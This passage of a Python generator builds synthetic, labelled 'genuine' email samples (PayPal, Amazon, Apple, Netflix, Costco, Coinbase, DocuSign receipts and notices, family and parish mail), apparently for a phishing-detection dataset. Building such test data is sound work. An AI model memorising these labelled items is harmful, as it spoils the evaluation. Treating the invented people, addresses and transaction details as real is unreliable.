                   "Sent Jan 24, 2025 at 9:21 PM CST",
                   "Payment questions? Visit the Venmo Help Center in the app or at "
                   '<a href="https://help.venmo.com/">help.venmo.com</a>.'),
                "For security reasons, you cannot unsubscribe from payment emails.<br>Venmo is a service of PayPal, Inc., a licensed "
                "provider of money transfer services. Address: PayPal, Inc., 2211 North First Street, San Jose, CA 95131")
    plain = (f"Tara Nguyen paid you $32.50\n\npizza night + wings\n\nSee transaction: {story}\n\nMoney credited to your Venmo "
             "account.\n\nVenmo is a service of PayPal, Inc.\n")
    headers = std(addr("Venmo", "venmo@venmo.com"), rcpt, "Tara Nguyen paid you $32.50", sent(when, CT, 2),
                  f"<{hx(n, 'mid', 13)}.{digits(n, 'mid2', 13)}@venmo.com>")
    return Sample(n, "clean", "Genuine Venmo 'Tara Nguyen paid you $32.50' notice for a pizza night, from venmo@venmo.com on "
                  "PayPal's servers with DMARC pass, link to venmo.com; the money is already in the account",
                  "icloud", rcpt, when, via, headers, alt(n, "java", plain, html))


@sample
def l10():
    n = "b11-legit-paypal-receipt-candle-shop"
    when = at("2024-12-02 19:34:09")
    rcpt = "emily.tran_88@yahoo.com"
    ip = f"173.0.84.{num(n, 'ip', 224, 230)}"
    host = f"mx{num(n, 'h', 0, 3)}.slc.paypal.com"
    via = own_via("paypal.com", host, ip, "service@paypal.com", "pp-dkim1",
                  sign="Content-Transfer-Encoding:Content-Type:MIME-Version:Date:Subject:To:From:Message-ID")
    tid = an(n, "tid", 17, UPNUM)
    html = card("PayPal", '<div style="padding:22px 32px 0 32px"><img src="https://www.paypalobjects.com/digitalassets/c/system-triggered-email/n/layout/images/paypal-rebranding/pp-logo-in-circle-2x.png" width="48" alt="PayPal"></div>',
                ps("Hello, Emily Tran",
                   "<b style=\"font-size:20px\">You sent $48.00 USD to Hollow Oak Candle Co.</b>",
                   "<b>Transaction ID</b><br>" + tid + "<br><b>Transaction date</b><br>December 2, 2024",
                   "Holiday Bundle - 3 soy candles (Balsam, Cider, Fireside) &nbsp; $42.00<br>Shipping &nbsp; $6.00<br>"
                   "<b>Total &nbsp; $48.00 USD</b>",
                   "Paid with: PayPal balance $48.00 USD<br>Ship to: Emily Tran, 2716 Maple Grove Dr, Plano, TX 75075",
                   'Questions about this payment? Contact the seller, or see your activity at <a href="https://www.paypal.com/myaccount/transactions/">paypal.com</a>.'),
                "Help &amp; Contact | Security | Apps<br>PayPal is committed to preventing fraudulent emails. Emails from PayPal will "
                "always contain your full name.<br>Copyright &copy; 1999-2024 PayPal, Inc. All rights reserved. PayPal is located at "
                "2211 N. First St., San Jose, CA 95131.")
    plain = (f"Hello, Emily Tran\n\nYou sent $48.00 USD to Hollow Oak Candle Co.\n\nTransaction ID: {tid}\nTransaction date: "
             "December 2, 2024\n\nHoliday Bundle - 3 soy candles   $42.00\nShipping   $6.00\nTotal   $48.00 USD\n\n"
             "Copyright (C) 1999-2024 PayPal, Inc. All rights reserved.\n")
    headers = std(addr("service@paypal.com", "service@paypal.com"), addr("Emily Tran", rcpt),
                  "Receipt for your payment to Hollow Oak Candle Co.", sent(when, PT, 3),
                  f"<{hx(n, 'ppmid', 13)}@{host.replace('mx', 'ccg01mail0')}>",
                  extra=[f"X-PP-REQUESTED-TIME: {int(when.timestamp()) * 1000 - 7000}",
                         f"X-PP-Email-transmission-Id: {guid(n, 'pptid')}", f"PP-Correlation-Id: {hx(n, 'ppcorr', 13)}",
                         "X-Email-Type-Id: PPX000557"])
    return Sample(n, "clean", "Genuine PayPal receipt addressed by full name for a $48 candle order paid from the PayPal "
                  "balance, from service@paypal.com with DMARC pass, links only to paypal.com", "yahoo", rcpt, when, via,
                  headers, alt(n, "java", plain, html))


@sample
def l11():
    n = "b11-legit-amazon-shipped-blender"
    when = at("2025-10-02 15:30:18")
    rcpt = "brooke.sandoval@gmail.com"
    ip = f"54.240.{num(n, 'ip', 8, 11)}.{num(n, 'ip2', 2, 250)}"
    host = f"a{ip.split('.')[2]}-{ip.split('.')[3]}.smtp-out.amazonses.com"
    via = Via(ip=ip, helo=host, rdns=host, mailfrom=f"{when.strftime('%Y%m%d%H%M')}{hx(n, 'mf', 10)}@bounces.amazon.com",
              spf="pass", dkim=[("amazon.com", "yg4mwqurec7fkhzutopddd3ytuaqrvuz", "pass"),
                                ("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", "pass")],
              dmarc="pass", policy="QUARANTINE", from_domain="amazon.com",
              sign_headers="Date:From:Reply-To:To:Message-ID:Subject:MIME-Version:Content-Type:Feedback-ID")
    order = f"113-{digits(n, 'o1', 7)}-{digits(n, 'o2', 7)}"
    html = card("Amazon.com", '<div style="padding:18px 32px 0 32px;font-size:26px;font-weight:bold;color:#000">amazon</div>',
                ps("Hi Brooke,",
                   "<b style=\"font-size:20px\">Shipped:</b> \"Ninja Professional Plus Blender with Auto-iQ...\"",
                   "Arriving <b>Saturday</b>",
                   f'<a href="https://www.amazon.com/gp/your-account/ship-track?ie=UTF8&amp;orderId={order}">Track package</a>',
                   f"Order # {order}<br>Ship to: Brooke Sandoval, DENVER, CO",
                   "Order total: $109.99",
                   'Return or replace items in <a href="https://www.amazon.com/gp/css/order-history">Your Orders</a>.'),
                "&copy;2025 Amazon.com, Inc. or its affiliates. Amazon and all related marks are trademarks of Amazon.com, Inc. or "
                "its affiliates. Amazon.com, 410 Terry Avenue N., Seattle, WA 98109.<br>This email was sent from a notification-only "
                "address that cannot accept incoming email. Please do not reply to this message.")
    headers = std(addr("Amazon.com", "shipment-tracking@amazon.com"), rcpt,
                  'Shipped: "Ninja Professional Plus Blender..."', sent(when, UTC, 2),
                  ses_msgid(n),
                  extra=[f"Feedback-ID: ::1.us-east-1.{ub64(n, 'sesfb', 43)}=:AmazonSES", "X-AMAZON-MAIL-RELAY-TYPE: notification", f"Bounces-to: {via.mailfrom}",
                         f"X-AMAZON-METADATA: CA=C{an(n, 'ca', 12, UPNUM)}-CU=A{an(n, 'cu', 12, UPNUM)}",
                         f"X-Original-MessageID: <urn.rtn.msg.{when.strftime('%Y%m%d%H%M%S')}{hx(n, 'rtn', 16)}@1{digits(n, 'rtn2', 12)}.us-east-1.amazon.com>",
                         f"X-SES-Outgoing: {when.strftime('%Y.%m.%d')}-{ip}"])
    return Sample(n, "bulk", "Genuine Amazon shipment notice from shipment-tracking@amazon.com via Amazon SES with amazon.com "
                  "DKIM and DMARC pass, order details, links only to amazon.com", "gmail", rcpt, when, via, headers,
                  html_only(html))


@sample
def l12():
    n = "b11-legit-apple-icloud-receipt"
    when = at("2025-04-08 09:14:26")
    rcpt = "megan.ostrowski@icloud.com"
    ip = f"17.111.110.{num(n, 'ip', 10, 120)}"
    host = f"rn2-txn-msbadger{digits(n, 'h', 5)}.apple.com"
    via = own_via("email.apple.com", host, ip, "no_reply@email.apple.com", "email0517", dkim_domain="email.apple.com",
                  policy="QUARANTINE")
    order = an(n, "order", 10, UPNUM)
    html = card("Apple", '<div style="padding:26px 32px 0 32px;font-size:30px;color:#000">&#63743;</div>',
                ps("<b style=\"font-size:24px\">Receipt</b>",
                   f"APPLE ACCOUNT<br>megan.ostrowski@icloud.com<br><br>BILLED TO<br>Visa .... {digits(n, 'cc', 4)}<br>Megan Ostrowski<br>"
                   f"<br>DATE<br>Apr 8, 2025<br><br>ORDER ID<br>{order}<br><br>DOCUMENT NO.<br>{digits(n, 'doc', 12)}",
                   "<b>iCloud+</b><br>iCloud+ with 200 GB (Monthly)<br>Renews May 8, 2025 &nbsp;&nbsp; <b>$2.99</b>",
                   "Subtotal $2.99<br>Tax $0.25<br><b>TOTAL $3.24</b>",
                   'If you have any questions about your bill, visit <a href="https://support.apple.com/billing">support.apple.com/billing</a>. '
                   'To manage subscriptions, go to <a href="https://account.apple.com/">account.apple.com</a>.'),
                "Apple Account | Terms of Sale | Privacy Policy<br>Copyright &copy; 2025 Apple Inc. One Apple Park Way, Cupertino, CA 95014, "
                "United States. All rights reserved.", bg="#ffffff", font="-apple-system,Helvetica Neue,Helvetica,Arial,sans-serif")
    headers = std(addr("Apple", "no_reply@email.apple.com"), rcpt, "Your receipt from Apple.", sent(when, PT, 2),
                  f"<{guid(n, 'mid', True)}@email.apple.com>",
                  extra=[f"X-Apple-Msg-Id: {hx(n, 'amid', 32)}", "X-Email-Type-Id: RECEIPT"])
    return Sample(n, "bulk", "Genuine Apple receipt for a $2.99 iCloud+ renewal from no_reply@email.apple.com on Apple's own "
                  "servers (17.x), DMARC pass, links only to apple.com", "icloud", rcpt, when, via, headers, html_only(html))


@sample
def l13():
    n = "b11-legit-netflix-price-change-notice"
    when = at("2025-02-11 18:45:51")
    rcpt = "tyler.hagen@outlook.com"
    via = ses_via("account.netflix.com", n, custom_dkim=True)
    via.dkim = [("netflix.com", "a6ml4gbwl7ve2dvtrfvzxk2p2puzhjpn", "pass"), via.dkim[1]]
    via.from_domain = "account.netflix.com"
    html = card("Netflix", '<div style="padding:24px 32px 0 32px;font-size:34px;font-weight:bold;color:#e50914;letter-spacing:1px">NETFLIX</div>',
                ps("<b style=\"font-size:22px\">An update on your membership price</b>",
                   "Hi Tyler,",
                   "We're writing to let you know that the price of your Standard plan will change from $15.49 to "
                   "<b>$17.99/month</b>, starting with your billing date on or after <b>March 14, 2025</b>.",
                   "This update helps us keep bringing you more of the TV shows, movies and games you love. There's nothing you "
                   "need to do. If you'd like to change your plan or cancel, you can do so anytime on your "
                   '<a href="https://www.netflix.com/YourAccount">Account page</a>.',
                   "We're here to help if you need it. Visit the Help Center at help.netflix.com.",
                   "&ndash;Your friends at Netflix"),
                "Questions? Call 1-866-579-7172<br>This account email has been sent to you as part of your Netflix membership.<br>"
                '<a href="https://help.netflix.com/" style="color:#777">Help Center</a> | '
                '<a href="https://help.netflix.com/legal/termsofuse" style="color:#777">Terms of Use</a> | '
                '<a href="https://help.netflix.com/legal/privacy" style="color:#777">Privacy</a><br>Netflix, Inc. 121 Albright Way, Los Gatos, CA 95032')
    headers = std(addr("Netflix", "info@account.netflix.com"), rcpt, "An update on your membership price",
                  sent(when, UTC, 2), ses_msgid(n), extra=[ses_tail(n, when)])
    return Sample(n, "bulk", "Genuine Netflix price-change notice from info@account.netflix.com through Amazon SES with "
                  "netflix.com DKIM: nothing to pay or update, links only to netflix.com", "outlook", rcpt, when, via, headers,
                  html_only(html), bcl=4)


@sample
def l14():
    n = "b11-legit-costco-newsletter-sfmc"
    when = at("2025-05-15 10:02:40")
    rcpt = "patty.lindqvist@charter.net"
    dom = "online.costco.com"
    ip = f"13.111.{num(n, 'ip', 80, 95)}.{num(n, 'ip2', 2, 250)}"
    host = f"mta{num(n, 'h', 2, 9)}.{dom}"
    sub = digits(n, "sub", 8)
    via = Via(ip=ip, helo=host, rdns=host, mailfrom=f"bounce-{num(n, 'b1', 100, 999)}_HTML-{digits(n, 'b2', 9)}-{digits(n, 'b3', 7)}-{sub}-1@bounce.{dom}",
              spf="pass", dkim=[(dom, "200608", "pass")], dmarc="pass", policy="REJECT", from_domain=dom,
              sign_headers="From:To:Subject:Date:List-Unsubscribe:List-Unsubscribe-Post:MIME-Version:Content-Type:Message-ID")
    click = lambda salt: f"https://click.online.costco.com/?qs={hx(n, salt, 128)}"  # noqa: E731
    deals = [("Kirkland Signature Organic Extra Virgin Olive Oil, 2 L", "$5 OFF"), ("Traeger Woodridge Pro Pellet Grill", "$150 OFF"),
             ("Samsung 65\" Class QN90D Neo QLED 4K TV", "$300 OFF"), ("Tide Pods Laundry Detergent, 156-count", "$6 OFF")]
    rows = "".join(f'<tr><td style="padding:10px;border-bottom:1px solid #eee"><a href="{click("d" + str(i))}" style="color:#005daa;text-decoration:none">{name}</a></td>'
                   f'<td style="padding:10px;border-bottom:1px solid #eee;color:#e31837;font-weight:bold;text-align:right">{off}</td></tr>'
                   for i, (name, off) in enumerate(deals))
    html = card("Costco", f'<div style="background:#005daa;padding:14px 32px"><a href="{click("logo")}"><img src="https://image.online.costco.com/lib/fe8a13727d6d037c77/m/1/costco-logo-white.png" alt="Costco Wholesale" height="36" style="border:0"></a></div>',
                ps("<b style=\"font-size:22px\">Member-Only Savings: May 14 &ndash; June 8</b>",
                   "Stock up for summer with hundreds of Instant Savings in warehouses and online. No coupons needed &mdash; "
                   "just show your membership card.")
                + f'<table role="presentation" width="100%" style="font-size:14px;border-collapse:collapse">{rows}</table>'
                + button(click("cta"), "Shop All Savings", "#e31837")
                + ps("While supplies last. Limits may apply. Prices and availability may vary online and in warehouses."),
                f'You are receiving this email because you are a Costco member who opted in to email. '
                f'<a href="https://click.online.costco.com/?qs={hx(n, "unsub", 128)}" style="color:#777">Unsubscribe</a> | '
                f'<a href="{click("priv")}" style="color:#777">Privacy</a><br>Costco Wholesale Corporation, 999 Lake Drive, Issaquah, WA 98027'
                f'<img src="https://click.online.costco.com/open.aspx?ffcb10-{hx(n, "open", 60)}" width="1" height="1" alt="">')
    headers = std(addr("Costco Wholesale", "Costco@online.costco.com"), rcpt, "Member-Only Savings Start Now + Summer Grilling Deals",
                  sent(when, PT, 2), f"<{guid(n, 'mid')}@atl1s07mta{num(n, 'mta', 1000, 9999)}.xt.local>",
                  extra=[f"List-Unsubscribe: <https://click.online.costco.com/subscription_center.aspx?jwt={ub64(n, 'jwt', 120)}>,\n"
                         f" <mailto:leave-{hx(n, 'leave', 40)}@leave.online.costco.com>",
                         "List-Unsubscribe-Post: List-Unsubscribe=One-Click", f"x-job: {num(n, 'job', 100000, 999999)}_{digits(n, 'job2', 7)}",
                         f"X-SFMC-Stack: 7", f"Feedback-ID: {digits(n, 'fb', 7)}:{digits(n, 'fb2', 9)}:{ip}:sfmktgcld",
                         "Precedence: bulk"])
    return Sample(n, "bulk", "Genuine Costco member-savings newsletter through Salesforce Marketing Cloud from online.costco.com: "
                  "click.online.costco.com tracking links, List-Unsubscribe one-click, aligned DKIM", "spectrum", rcpt, when, via,
                  headers, alt(n, "java", "Member-Only Savings: May 14 - June 8\n\nStock up for summer with hundreds of Instant "
                                         "Savings.\n\nShop now: " + click("cta") + "\n", html))


@sample
def l15():
    n = "b11-legit-coinbase-new-signin-sendgrid"
    when = at("2025-06-05 13:40:09")
    rcpt = "kevin.larue@gmail.com"
    via = sendgrid_via("coinbase.com", n, rcpt)
    via.policy = "REJECT"
    html = card("Coinbase", '<div style="padding:24px 32px 0 32px;font-size:28px;font-weight:bold;color:#0052ff">coinbase</div>',
                ps("<b style=\"font-size:20px\">New sign-in to your account</b>",
                   "We noticed a new sign-in to your Coinbase account.",
                   "Device: Chrome on macOS<br>Location: Austin, TX, United States (approximate)<br>IP address: 70.114.201.36<br>"
                   "Time: June 5, 2025 8:39 AM CDT",
                   "If this was you, you don't need to do anything.",
                   "If this wasn't you, open the Coinbase app or go to coinbase.com and lock your account from Settings &gt; "
                   'Security, then <a href="https://help.coinbase.com/en/coinbase/privacy-and-security/account-compromised">'
                   "follow these steps</a>.",
                   "Coinbase will never call you to ask you to move funds, and will never ask for your password, 2-step "
                   "verification codes or recovery phrase."),
                "Coinbase, Inc. 82 Nassau St #61234, New York, NY 10038<br>This is a security notification you cannot unsubscribe from.")
    headers = std(addr("Coinbase", "no-reply@coinbase.com"), rcpt, "New sign-in to your Coinbase account", sent(when, UTC, 2),
                  f"<{ub64(n, 'sgmid', 22)}@geopod-ismtpd-{num(n, 'sggeo', 1, 40)}>", extra=[sendgrid_tail(n)])
    return Sample(n, "bulk", "Genuine Coinbase new-sign-in alert from no-reply@coinbase.com via SendGrid with coinbase.com DKIM, "
                  "matches the user's own Austin sign-in, tells them to go to the app themselves; help link on coinbase.com",
                  "gmail", rcpt, when, via, headers, html_only(html), pre=sendgrid_pre(n, when))


@sample
def l16():
    n = "b11-legit-docusign-closing-packet-title-company"
    when = at("2025-04-22 16:11:37")
    rcpt = "chris.halvorsen@gmail.com"
    ip = f"64.207.219.{num(n, 'ip', 70, 140)}"
    host = f"mailna4.docusign.net"
    via = own_via("docusign.net", host, ip, "dse_NA4@docusign.net", "s1", dkim_domain="docusign.net",
                  sign="From:To:Subject:Date:Message-ID:Reply-To:MIME-Version:Content-Type")
    env = guid(n, "env")
    url = (f"https://na4.docusign.net/Signing/EmailStart.aspx?a={env}&amp;etti=24&amp;acct={guid(n, 'acct')}"
           f"&amp;er={guid(n, 'er')}")
    warning = ("WIRE FRAUD WARNING: Lakeshore Title &amp; Escrow will never change our wiring instructions by email, text or "
               "phone. Before you send any funds, call our office at the number printed in your purchase contract or listed on "
               "lakeshoretitle.com to confirm the instructions verbally. If you receive an email saying our instructions have "
               "changed, do not respond to it - call us.")
    html = card("Docusign", '<div style="padding:22px 32px 0 32px;font-size:24px;font-weight:bold;color:#000">docusign</div>',
                '<div style="background:#4c00ff;color:#fff;padding:26px;text-align:center;font-size:16px">Megan Alvarez sent you a document to review and sign.'
                + button(url, "REVIEW DOCUMENT", "#ffbe00").replace("color:#ffffff", "color:#000000") + "</div>"
                + ps("<b>Megan Alvarez</b><br>megan.alvarez@lakeshoretitle.com",
                     "Hi Chris,",
                     "Please review and electronically sign the closing documents for 2217 Marlowe Ct, Madison, "
                     "WI 53711: the Closing Disclosure acknowledgment, the settlement statement and the title affidavit. Your "
                     "closing is scheduled for Tuesday, April 29 at 10:00 AM at our Odana Road office.",
                     "Your lender will send its own loan documents separately.",
                     f"<b>{warning}</b>",
                     "Thank you,<br>Megan Alvarez, Escrow Officer<br>Lakeshore Title &amp; Escrow"),
                "<b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. Please do not share this email, "
                "link, or access code with others.<br><b>Alternate Signing Method</b><br>Visit Docusign.com, click 'Access "
                f"Documents', and enter the security code: {hx(n, 'code', 32).upper()}<br><b>About Docusign</b><br>Sign documents "
                "electronically in just minutes. It's safe, secure, and legally binding.<br>This message was sent to you by "
                "Megan Alvarez who is using the Docusign Electronic Signature Service.")
    plain = ("Megan Alvarez sent you a document to review and sign.\n\nREVIEW DOCUMENT: " + url.replace("&amp;", "&") +
             "\n\nHi Chris,\n\nPlease review and electronically sign the closing documents for 2217 Marlowe Ct. "
             "Your closing is scheduled for Tuesday, April 29 at 10:00 AM.\n\n" + warning.replace("&amp;", "&") +
             "\n\nMegan Alvarez, Escrow Officer\nLakeshore Title & Escrow\n")
    headers = std(addr("Megan Alvarez via Docusign", "dse_NA4@docusign.net"), addr("Chris Halvorsen", rcpt),
                  "Complete with Docusign: 2217 Marlowe Ct - Closing Documents", sent(when, UTC, 2),
                  f"<{hx(n, 'mid', 32)}@docusign.net>", reply_to=addr("Megan Alvarez", "megan.alvarez@lakeshoretitle.com"),
                  extra=[f"X-DocuSign-EnvelopeId: {env}", "X-API-Host: na4.docusign.net"])
    return Sample(n, "clean", "Genuine DocuSign envelope from the buyer's title company's escrow officer (dse_NA4@docusign.net, "
                  "DMARC pass, Reply-To at lakeshoretitle.com) with the closing documents and the standard 'we never change wire "
                  "instructions by email, call us' warning", "gmail", rcpt, when, via, headers, alt(n, "net", plain, html))


@sample
def l17():
    n = "b11-legit-contractor-quickbooks-invoice-pdf"
    when = at("2024-10-18 21:26:04")
    rcpt = "tgarrison1961@gmail.com"
    dom = "kesslerroofing.com"
    sender = "dave@kesslerroofing.com"
    via = workspace_via(dom, sender, n, dmarc="pass", policy="NONE")
    inv = "1186"
    url = f"https://connect.intuit.com/portal/app/CommerceNetwork/view/scs-v1-{hx(n, 'qb', 48)}?locale=en_US"
    pdf = pdf_doc(["Kessler Roofing & Gutters LLC", "3390 Old Orchard Rd, Fort Wayne, IN 46818  |  (260) 555-0143",
                   "", f"INVOICE {inv}", "Date: 10/18/2024        Terms: Net 15        Due: 11/02/2024", "",
                   "Bill to: Tom Garrison, 7815 Ridgeview Ct, Fort Wayne, IN 46835", "",
                   "Gutter replacement - 6\" seamless aluminum, 164 ft          $2,296.00",
                   "Downspouts (6) and leaf guards                                   $   684.00",
                   "Fascia board repair, north side                                  $   310.00",
                   "Haul-away and disposal                                             $   150.00", "",
                   "Subtotal: $3,440.00", "Deposit received 09/30/2024: -$1,000.00", "BALANCE DUE: $2,440.00", "",
                   "Pay online with the link in our email, or mail a check payable to Kessler Roofing & Gutters LLC.",
                   "Thank you for your business!"],
                  f"Invoice {inv}", "QuickBooks Online", "D:20241018162244-04'00'", author="Kessler Roofing & Gutters LLC")
    plain = ("Hi Tom,\n\nThanks again for having us out this week - the crew said the new gutters went up without a hitch and "
             "the fascia on the north side is all patched.\n\n"
             f"Attached is invoice {inv} for the balance ($2,440.00 after your $1,000 deposit). You can pay it by card or bank "
             f"transfer through QuickBooks here:\n{url}\n\nor mail a check to the office if that's easier. It's due Nov 2.\n\n"
             "If you notice any drips after the next good rain, just give me a call.\n\n"
             "Dave Kessler\nKessler Roofing & Gutters LLC\n(260) 555-0143\n")
    html = ("<div dir=\"ltr\">Hi Tom,<div><br></div><div>Thanks again for having us out this week - the crew said the new gutters "
            "went up without a hitch and the fascia on the north side is all patched.</div><div><br></div>"
            f"<div>Attached is invoice {inv} for the balance ($2,440.00 after your $1,000 deposit). You can pay it by card or bank "
            f"transfer through QuickBooks <a href=\"{url}\">here</a>, or mail a check to the office if that's easier. It's due "
            "Nov 2.</div><div><br></div><div>If you notice any drips after the next good rain, just give me a call.</div>"
            "<div><br></div><div>Dave Kessler<br>Kessler Roofing &amp; Gutters LLC<br>(260) 555-0143</div></div>\n")
    body = mixed(n, "gmail", [alt(n, "gmail", plain, html), attachment("application/pdf", f"Invoice_{inv}_from_Kessler_Roofing_Gutters_LLC.pdf", pdf)])
    headers = "MIME-Version: 1.0\n" + std(addr("Dave Kessler", sender), addr("Tom Garrison", rcpt),
                                          f"Invoice {inv} - gutter replacement", sent(when, ET), gmail_msgid(n), mime_version=False)
    return Sample(n, "clean", "A roofing contractor emails the homeowner from his own Google Workspace domain after the job: "
                  "QuickBooks invoice PDF for the agreed balance, a connect.intuit.com pay link, or mail a check",
                  "gmail", rcpt, when, via, headers, body, pre=workspace_pre(n, when, dom))


@sample
def l18():
    n = "b11-legit-geeksquad-appointment-bestbuy"
    when = at("2025-03-03 15:20:33")
    rcpt = "deb.sorensen@hotmail.com"
    dom = "emailinfo.bestbuy.com"
    ip = f"208.95.{num(n, 'ip', 134, 135)}.{num(n, 'ip2', 2, 250)}"
    host = f"mta{num(n, 'h', 10, 60)}.{dom}"
    via = own_via(dom, host, ip, f"bounce-{hx(n, 'bm', 16)}@{dom}", "bestbuy", policy="REJECT")
    click = lambda salt: f"https://click.emailinfo.bestbuy.com/?qs={hx(n, salt, 120)}"  # noqa: E731
    html = card("Best Buy", '<div style="background:#0046be;padding:16px 32px;font-size:22px;font-weight:bold;color:#fff200">BEST BUY &nbsp;<span style="color:#fff;font-size:16px">Geek Squad</span></div>',
                ps("<b style=\"font-size:20px\">Your appointment is confirmed.</b>",
                   "Hi Deborah,",
                   "Thanks for scheduling with Geek Squad. Here are your appointment details:",
                   "<b>Thursday, March 6, 2025 at 2:30 PM</b><br>Best Buy Eden Prairie<br>8251 Flying Cloud Dr, Eden Prairie, MN 55344",
                   "Service: Computer &ndash; Diagnostics and repair (laptop won't charge)<br>Confirmation #: " + digits(n, "conf", 10),
                   "Please bring your device, its charger and any passwords we'll need to test it. Back up your data if you can.")
                + button(click("manage"), "Manage Appointment", "#0046be")
                + ps("Need to reach the store? Call Best Buy Eden Prairie at (952) 555-0140."),
                f'<a href="{click("help")}" style="color:#777">Help</a> | <a href="{click("priv")}" style="color:#777">Privacy Policy</a><br>'
                "This is a service email about your appointment. Best Buy, 7601 Penn Avenue South, Richfield, MN 55423. "
                "&copy; 2025 Best Buy. All rights reserved.")
    headers = std(addr("Best Buy", "BestBuyInfo@emailinfo.bestbuy.com"), rcpt,
                  "Your Geek Squad appointment is confirmed", sent(when, CT, 2), f"<{guid(n, 'mid')}@{host}>",
                  extra=[f"Feedback-ID: {digits(n, 'fb', 6)}:{digits(n, 'fb2', 7)}:bestbuy"])
    return Sample(n, "bulk", "Genuine Best Buy / Geek Squad in-store appointment confirmation from emailinfo.bestbuy.com "
                  "(aligned DKIM), the store's public phone number, links through Best Buy's click tracking, no payment",
                  "outlook", rcpt, when, via, headers, html_only(html), bcl=3)


@sample
def l19():
    n = "b11-legit-godaddy-auto-renewal-reminder"
    when = at("2025-10-28 16:03:21")
    rcpt = "tom@pinehurstlandscaping.com"
    dom = "godaddy.com"
    ip = f"68.232.{num(n, 'ip', 140, 143)}.{num(n, 'ip2', 2, 250)}"
    host = f"mail{num(n, 'h', 1, 9)}.email.godaddy.com"
    via = own_via(dom, host, ip, f"bounce-{hx(n, 'bm', 14)}@email.godaddy.com", "gd2048", dkim_domain="godaddy.com",
                  policy="REJECT")
    html = card("GoDaddy", '<div style="padding:24px 32px 0 32px;font-size:28px;font-weight:bold;color:#111">GoDaddy</div>',
                ps("<b style=\"font-size:20px\">Your products will renew automatically on November 18.</b>",
                   "Hi Tom,",
                   "This is a friendly reminder that the following products in your account (customer #"
                   + digits(n, "cust", 9) + ") are set to auto-renew. You don't need to do anything.",
                   "<b>pinehurstlandscaping.com</b> &ndash; Domain Registration, 1 year &nbsp; $22.99<br>"
                   "<b>Full Domain Privacy and Protection</b>, 1 year &nbsp; $9.99",
                   "We'll charge the payment method on file (Visa ending " + digits(n, "cc", 4) + ") on November 18, 2025. "
                   "To review or change your renewal settings, sign in to your account at "
                   '<a href="https://account.godaddy.com/products">account.godaddy.com</a>.'),
                "Please do not reply to this email. Questions? Call us at (480) 505-8877 or visit godaddy.com/help.<br>"
                "Copyright &copy; 1999-2025 GoDaddy Operating Company, LLC. 100 S. Mill Ave, Suite 1600, Tempe, AZ 85281.")
    headers = std(addr("GoDaddy", "noreply@godaddy.com"), rcpt,
                  "Your GoDaddy products will auto-renew on November 18", sent(when, ZoneInfo("America/Phoenix"), 2),
                  f"<{hx(n, 'mid', 20)}.{digits(n, 'mid2', 10)}@email.godaddy.com>")
    return Sample(n, "bulk", "Genuine GoDaddy auto-renewal reminder three weeks before the domain renews, from noreply@godaddy.com "
                  "(DMARC pass): nothing to do, card already on file, sign-in on account.godaddy.com", "workspace", rcpt, when,
                  via, headers, html_only(html))


@sample
def l20():
    n = "b11-legit-family-thanksgiving-photos-gmail"
    when = at("2024-12-01 02:37:12")
    rcpt = "dana.whitfield84@gmail.com"
    sender = "grace.whitfield.oh@gmail.com"
    via = gmail_via(sender, n)
    album = "https://photos.app.goo.gl/" + an(n, "album", 17)
    icloud = "https://www.icloud.com/sharedalbum/#B0" + an(n, "ica", 13)
    plain = ("Hi Dana!\n\nWhat a great Thanksgiving - thank you for hosting, the turkey was perfect and the kids haven't stopped "
             "talking about the pie-eating contest.\n\nI put all my pictures in a Google Photos album:\n" + album + "\n\n"
             "and Uncle Rick's are in his iCloud shared album (he says you don't need an Apple account to look):\n" + icloud +
             "\n\nI attached my favorite one of Grandpa with the twins. Can you send me the one you took on the porch?\n\n"
             "Love you, safe travels home!\nGrace\n")
    html = ("<div dir=\"ltr\">Hi Dana!<div><br></div><div>What a great Thanksgiving - thank you for hosting, the turkey was perfect "
            "and the kids haven't stopped talking about the pie-eating contest.</div><div><br></div><div>I put all my pictures in a "
            f"<a href=\"{album}\">Google Photos album</a>, and Uncle Rick's are in his <a href=\"{icloud}\">iCloud shared album</a> "
            "(he says you don't need an Apple account to look).</div><div><br></div><div>I attached my favorite one of Grandpa "
            "with the twins. Can you send me the one you took on the porch?</div><div><br></div><div>Love you, safe travels home!"
            "</div><div>Grace</div></div>\n")
    body = mixed(n, "gmail", [alt(n, "gmail", plain, html),
                              attachment("image/jpeg", "IMG_4471.jpg", files.photo_jpeg(num(n, "seed", 1, 50)))])
    headers = "MIME-Version: 1.0\n" + std(addr("Grace Whitfield", sender), addr("Dana Whitfield", rcpt),
                                          "Thanksgiving pictures!", sent(when, ET), gmail_msgid(n), mime_version=False)
    return Sample(n, "clean", "A sister's Gmail message after Thanksgiving with links to a Google Photos album and an iCloud "
                  "shared album plus one attached JPEG; no request beyond 'send me your porch photo'", "gmail", rcpt, when, via,
                  headers, body, pre=gmail_pre(n, when))


@sample
def l21():
    n = "b11-legit-parish-newsletter-groupsio"
    when = at("2025-09-18 13:05:44")
    rcpt = "linda.hartwell@yahoo.com"
    ip = f"66.175.222.{num(n, 'ip', 100, 120)}"
    host = f"mail{num(n, 'h', 1, 9)}.groups.io"
    via = Via(ip=ip, helo=host, rdns=host, mailfrom=f"bounce+{digits(n, 'b1', 5)}+{digits(n, 'b2', 6)}+{digits(n, 'b3', 7)}+{digits(n, 'b4', 8)}@groups.io",
              spf="pass", dkim=[("groups.io", "20240206", "pass")], dmarc="none", policy="NONE",
              from_domain="stbrendanparish.org",
              sign_headers="Cc:Content-Type:Date:From:Reply-To:Subject:To:Message-Id:List-Id:List-Unsubscribe:Sender")
    topic = digits(n, "topic", 9)
    msgnum = 142
    plain = ("St. Brendan's Parish - Weekly News, September 18, 2025\n\n"
             "FALL FESTIVAL - Saturday, October 4, 11 AM to 5 PM on the parish grounds. Volunteers are still needed for the bake "
             "sale and the kids' games; sign up on the sheet in the gathering space or reply to Margaret.\n\n"
             "FOOD PANTRY - This month's most-needed items are canned tuna, peanut butter and cereal. Drop-off bins are by the "
             "main doors.\n\n"
             "CHOIR - Rehearsals resume Wednesday at 7 PM. New voices welcome!\n\n"
             "MASS TIMES - Saturday 5 PM; Sunday 8 AM, 10:30 AM and 12:30 PM (Spanish).\n\n"
             "A reminder: Father Tom will never email or text you asking for gift cards or money. If you get a message like that, "
             "it is a scam - please delete it.\n\n"
             "Blessings,\nMargaret Doyle, Parish Office\nSt. Brendan's Parish, 412 Church St, Kalamazoo, MI 49007\n"
             "https://www.stbrendanparish.org\n\n"
